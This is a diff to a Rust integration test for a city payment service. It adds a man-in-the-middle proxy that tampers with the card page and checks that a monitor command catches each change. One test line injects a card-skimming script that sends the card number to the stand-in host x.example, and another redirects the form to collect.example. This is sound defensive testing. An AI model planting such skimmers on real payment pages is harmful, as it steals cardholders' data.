@@ -1267,3 +1267,149 @@ async fn a_phone_payment_in_a_real_browser_and_every_console_page_is_accessible(
     );
     client.close().await.unwrap();
 }
+
+/// How the tampering proxy changes the card page on its way to the browser.
+#[derive(Clone, Copy)]
+enum Tamper {
+    AddScript,
+    ChangeStylesheetByte,
+    DropCsp,
+    WeakenCsp,
+    MoveFormAction,
+}
+
+/// A man in the middle in front of pay that alters what the card page
+/// sends, the way a compromised server or proxy would.
+async fn tampering_proxy(pay: String, tamper: Tamper) -> String {
+    use axum::body::Body;
+    use axum::extract::Request;
+    use axum::response::Response;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let me = format!("http://{}", listener.local_addr().unwrap());
+    let me_too = me.clone();
+    let handler = move |request: Request| {
+        let (pay, me) = (pay.clone(), me_too.clone());
+        async move {
+            let (parts, body) = request.into_parts();
+            let body = axum::body::to_bytes(body, 1 << 20).await.unwrap();
+            let mut forward =
+                reqwest::Client::new().request(parts.method.clone(), format!("{pay}{}", parts.uri));
+            for (k, v) in &parts.headers {
+                if k != "host" {
+                    forward = forward.header(k, v);
+                }
+            }
+            let answer = forward.body(body).send().await.unwrap();
+            let status = answer.status();
+            let mut headers = answer.headers().clone();
+            let mut text = answer.text().await.unwrap().replace(&pay, &me);
+            if parts.uri.path().starts_with("/card/probe/") {
+                match tamper {
+                    Tamper::AddScript => text = text.replace("</head>", "<script>document.forms[0].onsubmit=()=>fetch('https://x.example/'+document.forms[0].card_number.value)</script></head>"),
+                    Tamper::ChangeStylesheetByte => text = text.replacen("{", "{ ", 1),
+                    Tamper::DropCsp => {
+                        headers.remove("content-security-policy");
+                    }
+                    Tamper::WeakenCsp => {
+                        let csp = headers["content-security-policy"].to_str().unwrap().replace("default-src 'none'", "default-src 'none'; script-src 'unsafe-inline'");
+                        headers.insert("content-security-policy", csp.parse().unwrap());
+                    }
+                    Tamper::MoveFormAction => text = text.replace("action=\"/card/", "action=\"https://collect.example/card/"),
+                }
+            }
+            headers.remove("content-length");
+            let mut response = Response::new(Body::from(text));
+            *response.status_mut() = status;
+            *response.headers_mut() = headers;
+            response
+        }
+    };
+    tokio::spawn(async move {
+        let _ = axum::serve(listener, axum::Router::new().fallback(handler)).await;
+    });
+    me
+}
+
+/// The monitor passes the real page and catches each tampering with a
+/// non-zero exit, an audit-log entry and an e-mail to the city.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_monitor_catches_each_change_to_the_card_page() {
+    let (running, _portal, pay) = start_demo("monitor").await;
+    let monitor = |url: &str| {
+        Command::new(env!("CARGO_BIN_EXE_civicpay"))
+            .args(["monitor", "--url", url, "--tenant", "springfield", "--once"])
+            .env("CIVICPAY_DATA_DIR", &running.dir)
+            .env("CIVICPAY_LOG", "off")
+            .env_remove("DATABASE_URL")
+            .output()
+            .unwrap()
+    };
+    let clean = monitor(&pay);
+    let report = String::from_utf8_lossy(&clean.stdout).into_owned();
+    assert!(
+        clean.status.success(),
+        "{report}{}",
+        String::from_utf8_lossy(&clean.stderr)
+    );
+    assert!(report.starts_with("ok: "), "{report}");
+
+    let manifest = Command::new(env!("CARGO_BIN_EXE_civicpay"))
+        .args(["integrity", "manifest"])
+        .env("CIVICPAY_DATA_DIR", &running.dir)
+        .env("CIVICPAY_LOG", "off")
+        .env_remove("DATABASE_URL")
+        .output()
+        .unwrap();
+    let manifest: serde_json::Value = serde_json::from_slice(&manifest.stdout).unwrap();
+    assert!(
+        manifest["assets"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|a| a["path"] == "pay/templates/card.html")
+    );
+
+    for (tamper, expected) in [
+        (Tamper::AddScript, "element added: script sha256="),
+        (Tamper::ChangeStylesheetByte, "matches no asset"),
+        (Tamper::DropCsp, "header content-security-policy: missing"),
+        (Tamper::WeakenCsp, "script-src 'unsafe-inline'"),
+        (
+            Tamper::MoveFormAction,
+            "form added: post https://collect.example/card/{id}/{id}",
+        ),
+    ] {
+        let proxy = tampering_proxy(pay.clone(), tamper).await;
+        let caught = monitor(&proxy);
+        let report = String::from_utf8_lossy(&caught.stdout).into_owned();
+        assert_eq!(caught.status.code(), Some(1), "{report}");
+        assert!(
+            report.contains("ALARM") && report.contains(expected),
+            "{expected}: {report}"
+        );
+    }
+    let outbox: Vec<_> = std::fs::read_dir(running.dir.join("outbox"))
+        .unwrap()
+        .flatten()
+        .collect();
+    let alarms = outbox
+        .iter()
+        .filter(|m| {
+            std::fs::read_to_string(m.path())
+                .unwrap()
+                .contains("SECURITY ALARM")
+        })
+        .count();
+    assert_eq!(alarms, 5, "the city's contact is told each time");
+    let verify = Command::new(env!("CARGO_BIN_EXE_civicpay"))
+        .args(["audit", "verify", "--tenant", "springfield"])
+        .env("CIVICPAY_DATA_DIR", &running.dir)
+        .env_remove("DATABASE_URL")
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&verify.stdout).contains("5 entries"),
+        "{}",
+        String::from_utf8_lossy(&verify.stdout)
+    );
+}
